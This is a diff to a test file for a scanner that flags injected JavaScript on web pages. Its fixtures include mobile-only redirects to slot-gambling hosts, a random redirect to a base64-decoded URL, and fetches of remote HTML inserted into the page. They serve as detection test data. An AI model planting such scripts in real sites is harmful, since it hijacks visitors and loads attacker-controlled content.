@@ -91,9 +91,54 @@ def test_answers_that_are_no_pages_or_from_an_open_address(source: str) -> None:
     assert on_page(source, "").outcome is Outcome.PASS
 
 
-def test_a_text_from_an_address_in_base64_for_everybody() -> None:
-    source = f"{API}fetch(A).then(r=>r.text()).then(d=>{{k.innerHTML=d}})"
-    assert on_page(source, "").message == "look"
+@pytest.mark.parametrize(
+    "beside",
+    [
+        "",
+        "if(screen.width<700)menu()",
+        "if(screen.width<700){menu()}",
+        "var t='ontouchstart' in window;",
+        "if(/Android/.test(navigator.userAgent))document.body.className='hp';",
+    ],
+)
+def test_a_text_from_an_address_in_base64_for_everybody(beside: str) -> None:
+    source = "fetch(A).then(r=>r.text()).then(d=>{k.innerHTML=d});"
+    assert on_page(f"{API}{source}{beside}", "").message == "look"
+    assert on_page(f"{API}{beside}{source}", "").message == "look"
+    assert in_file(f"{API}{beside}{source}", "").outcome is Outcome.PASS
+
+
+MAKER = '<a href="https://jahat.example/">Tema Jahat</a>'
+DECODED = f"atob('{b64(EVIL)}')"
+TRICKS = [
+    # A visible link excuses no script that moves elsewhere, and nobody of the trade.
+    (OLD.format(DECODED) + "if(top!==self)location.href='/x'", MAKER, "loader"),
+    (news("cdn.slot88.example"), '<a href="https://slot88.example/">Situs slot</a>', "loader"),
+    (
+        "if(/Mobile/.test(navigator.userAgent))location.replace('https://contohkab.slot88.example')",
+        "",
+        "visitors",
+    ),
+    # No licence is looked at by chance.
+    (OLD.format("'/a.js'") + f"if(Math.random()<0.4)location.href={DECODED}", "", "visitors"),
+    (
+        f"if(/Android/.test(navigator.userAgent))fetch({DECODED}).then(r=>r.text()).then(h=>"
+        "document.body.insertAdjacentHTML('beforeend',h))",
+        "",
+        "loader",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "page", "message"), TRICKS)
+def test_no_excuses(source: str, page: str, message: str) -> None:
+    assert on_page(source, page).message == message
+    assert in_file(source, page).message == message
+
+
+def test_a_look_for_touch_that_tests_nothing() -> None:
+    source = "var t='ontouchstart' in window;if(confirm('Buka?'))location.href='https://a.example/'"
+    assert on_page(source, "").outcome is Outcome.PASS
 
 
 def band(link: str, words: str = "", test: str = "screen.width<820") -> str:
@@ -110,12 +155,18 @@ def band(link: str, words: str = "", test: str = "screen.width<820") -> str:
         band("https://link.zeus-bonus88.example/a"),
         band("https://slot88.example/a", "Main"),
         band("https://gacor77.example", test="/Android/.test(navigator.userAgent)"),
-        band("https://daftar-77.example", test="'ontouchstart' in window"),
+        band("https://daftar-naga77.example", test="'ontouchstart' in window"),
     ],
 )
 def test_bands_of_the_trade_on_telephones(source: str) -> None:
     assert on_page(source, "").message == "visitors"
     assert in_file(source, "").message == "visitors"
+
+
+@pytest.mark.parametrize("host", ["daftar-77.example", "promo77.example", "bonus88.example"])
+def test_bands_of_a_promise_and_a_number(host: str) -> None:
+    assert on_page(band(f"https://{host}"), "").message == "look"
+    assert in_file(band(f"https://{host}"), "").outcome is Outcome.PASS
 
 
 @pytest.mark.parametrize(
